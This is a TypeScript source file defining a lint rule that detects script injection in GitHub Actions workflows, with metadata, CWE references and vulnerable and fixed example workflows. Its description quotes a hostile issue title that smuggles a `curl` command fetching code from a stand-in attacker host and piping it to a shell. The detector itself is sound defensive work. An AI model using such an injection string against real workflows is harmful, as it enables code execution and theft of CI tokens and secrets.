// CGW001: attacker-controlled contexts expanded into `run:` scripts or `github-script`'s `script:`.
import { INJECTION_MESSAGES, INJECTION_REMEDIATION, reportInjections } from './injection.ts';
import type { GhaRule } from './support.ts';
import { SECURE_USE } from './support.ts';

export const rule: GhaRule = {
  meta: {
    id: 'CGW001',
    name: 'expression-injection',
    target: 'github-workflow',
    title: 'Attacker-controlled value expanded into a script',
    description:
      'GitHub replaces `${{ }}` expressions in `run:` (and in `actions/github-script`\'s `script:`) before the script ' +
      'runs, so the value becomes code. Issue and pull request titles and bodies, comments, review bodies, commit ' +
      'messages and author names, and head branch names are chosen by whoever opens the issue, the pull request or ' +
      'the fork: a title such as `"; curl https://evil.example | sh #` runs on the runner with the job\'s token and secrets. ' +
      '`github.event.workflow_run.head_branch` is not counted when `on.workflow_run.branches` lists literal names only: ' +
      'GitHub then starts the run for those branches alone, so the value is one the file writes.',
    severity: 'high',
    category: 'security',
    cwe: ['CWE-78', 'CWE-94'],
    references: [`${SECURE_USE}#good-practices-for-mitigating-script-injection-attacks`, 'https://securitylab.github.com/resources/github-actions-untrusted-input/'],
    remediation: INJECTION_REMEDIATION,
    equivalents: ['zizmor:template-injection', 'actionlint:expression', 'checkov:CKV_GHA_2'],
    messages: INJECTION_MESSAGES,
    examples: {
      bad: ['on: issues\njobs:\n  greet:\n    runs-on: ubuntu-24.04\n    steps:\n      - run: echo "New issue ${{ github.event.issue.title }}"\n'],
      good: ['on: issues\njobs:\n  greet:\n    runs-on: ubuntu-24.04\n    steps:\n      - run: echo "New issue $TITLE"\n        env:\n          TITLE: ${{ github.event.issue.title }}\n'],
    },
  },
  check(doc, report) {
    reportInjections(doc, report);
  },
};
